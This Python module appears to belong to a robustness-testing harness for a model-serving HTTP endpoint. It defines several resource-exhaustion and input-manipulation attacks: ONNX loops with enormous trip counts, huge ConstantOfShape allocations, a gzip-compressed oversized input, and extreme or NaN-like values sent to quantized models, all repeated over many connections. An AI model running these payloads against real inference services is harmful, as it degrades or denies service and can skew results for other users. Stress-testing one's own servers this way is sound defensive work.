"""Requests that make the model itself work long or large, or change what others are answered."""

from __future__ import annotations

import gzip

import numpy as np
from attacks.aim import AGAIN, Aim, attack
from attacks.bombs import repeated
from attacks.questions import document, post
from attacks.wire import Script


def integer(value: int) -> Script:
    """One row of this number."""
    return repeated(post(document("x", np.array([[value]], np.int64))), ahead=4)


@attack("a Loop of 2^60 trips", "looping")
def endless_loop(aim: Aim) -> None:
    aim.http(integer(2**60), AGAIN, 2)


@attack("a Loop of 300,000 trips, 16 connections", "looping")
def long_loops(aim: Aim) -> None:
    aim.http(integer(300_000), AGAIN, 16)


@attack("ConstantOfShape of 400 M numbers", "allocating")
def much_memory(aim: Aim) -> None:
    aim.http(integer(400_000_000), AGAIN, 2)


@attack("ConstantOfShape of 10^11 numbers", "allocating")
def too_much_memory(aim: Aim) -> None:
    aim.http(integer(10**11), AGAIN, 2)


@attack("ConstantOfShape of 30 M numbers, 16 connections", "allocating")
def some_memory(aim: Aim) -> None:
    aim.http(integer(30_000_000), AGAIN, 16)


@attack("one row of 16,384 columns, multiplied with itself", "squaring")
def square(aim: Aim) -> None:
    body = document("x", np.ones((1, 16_384), np.float32))
    aim.http(repeated(post(gzip.compress(body), Content_Encoding="gzip")), AGAIN, 2)


@attack("values of 1e6 beside honest rows of a quantized model", "quantized")
def outliers(aim: Aim) -> None:
    rows = np.zeros((1, 30), np.float32)
    rows[0, 7] = 1e6
    aim.http(repeated(post(document("x", rows)), ahead=16), AGAIN, 4)


@attack("values of 1e38, NaN and infinity beside honest rows of a quantized model", "quantized")
def extremes(aim: Aim) -> None:
    for value in (b"1e38", b"-1e38", b"null"):
        data = b",".join([value] * 30)
        body = b'{"inputs":[{"name":"x","datatype":"FP32","shape":[1,30],"data":[' + data + b"]}]}"
        aim.http(repeated(post(body), ahead=16), AGAIN, 2)
